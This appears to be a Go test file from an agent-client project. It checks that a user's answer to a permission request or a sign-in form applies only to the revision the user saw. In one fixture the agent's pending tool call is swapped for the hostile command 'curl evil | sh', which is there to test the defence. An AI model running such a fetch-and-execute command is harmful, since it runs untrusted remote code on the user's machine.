package session

import (
	"context"
	"errors"
	"testing"
	"testing/synctest"

	"parley/acpclient"
	"parley/internal/conversation"
	"parley/internal/policy"
	"parley/internal/test"
)

// An answer counts only for the revision that the user has seen. Any other answers nothing,
// cancels nothing and sends nothing.
func TestAnAnswerIsForWhatWasSeen(t *testing.T) {
	words := conversation.QueuedPrompt{Prompt: []acpclient.ContentBlock{acpclient.TextBlock("instead")}}
	for name, answer := range map[string]func(h *harness, q conversation.Seen) error{
		"an option": func(h *harness, q conversation.Seen) error {
			return Try(h.Context(), h, Answer{Question: q, Option: "yes"})
		},
		"with words": func(h *harness, q conversation.Seen) error {
			return Try(h.Context(), h, Answer{Question: q, Option: "no", Instead: &words})
		},
		"words alone": func(h *harness, q conversation.Seen) error {
			return Try(h.Context(), h, Answer{Question: q, Option: "", Instead: &words})
		},
	} {
		t.Run(name, func(t *testing.T) {
			bubble(t, func(t *testing.T, h *harness) {
				h.prompt("go")
				ch := h.agent().ask(t.Context(), "session/request_permission", permissionFor("t1"))
				h.settle()
				seen := test.Permissions(h.conv)[0].Seen
				h.agent().update("s1", `{"sessionUpdate":"tool_call_update","toolCallId":"t1","rawInput":{"command":"curl evil | sh"}}`)
				synctest.Wait() // the front end has yet to take it
				for _, q := range []conversation.Seen{seen, {ID: seen.ID}, {ID: seen.ID, Revision: seen.Revision + 2}} {
					if err := answer(h, q); !errors.Is(err, ErrChanged) {
						t.Errorf("the answer to %+v ends with %v", q, err)
					}
				}
				h.settle()
				if len(test.Permissions(h.conv)) != 1 || len(h.conv.Queue) != 0 || !h.conv.Turn.Cancelling.IsZero() || len(ch) != 0 {
					t.Errorf("something was done: %+v", h.conv.State)
				}
				if err := answer(h, test.Permissions(h.conv)[0].Seen); err != nil {
					t.Errorf("the answer to what is asked now ends with %v", err)
				}
			})
		})
	}
}

// So with a form, and a question of parley's own.
func TestAnAnswerToAFormIsForWhatWasSeen(t *testing.T) {
	bubble(t, func(t *testing.T, h *harness) {
		h.agent().ask(t.Context(), "elicitation/create", `{"sessionId":"s1","mode":"url","message":"Sign in","elicitationId":"e1","url":"https://example.com"}`)
		h.settle()
		q := test.Elicitations(h.conv)[0].Seen
		accept := acpclient.CreateElicitationResponse{Action: acpclient.ElicitAccept}
		for _, other := range []int{0, q.Revision + 1} {
			if err := Try(h.Context(), h, Answer{Question: conversation.Seen{ID: q.ID, Revision: other}, Form: &accept}); !errors.Is(err, ErrChanged) {
				t.Errorf("the answer to the revision %d ends with %v", other, err)
			}
		}
		if h.settle(); len(test.Elicitations(h.conv)) != 1 {
			t.Fatal("it was answered")
		}
		if err := Try(h.Context(), h, Answer{Question: q, Form: &accept}); err != nil {
			t.Error(err)
		}
		if err := Try(h.Context(), h, Answer{Question: q, Form: &accept}); !errors.Is(err, ErrAnswered) {
			t.Errorf("a second answer ends with %v", err)
		}
	})
}

// A question that the rules are judging has been shown to nobody.
func TestAQuestionThatIsJudgedTakesNoAnswer(t *testing.T) {
	var release chan struct{}
	judgedBy(t, func(ctx context.Context, _ Case) Ruling {
		<-release
		return Ruling{Verdict: policy.Ask}
	}, func(t *testing.T, h *harness, _ *fakeJudge) {
		release = make(chan struct{})
		h.agent().ask(t.Context(), "session/request_permission", permissionFor("t1"))
		synctest.Wait()
		for revision := range 3 {
			if err := Try(h.Context(), h, Answer{Question: conversation.Seen{ID: 1, Revision: revision}, Option: "yes"}); !errors.Is(err, ErrAnswered) {
				t.Errorf("the answer ends with %v", err)
			}
		}
		close(release)
		h.settle()
		if err := Try(h.Context(), h, Answer{Question: test.Permissions(h.conv)[0].Seen, Option: "yes"}); err != nil {
			t.Error(err)
		}
	})
}
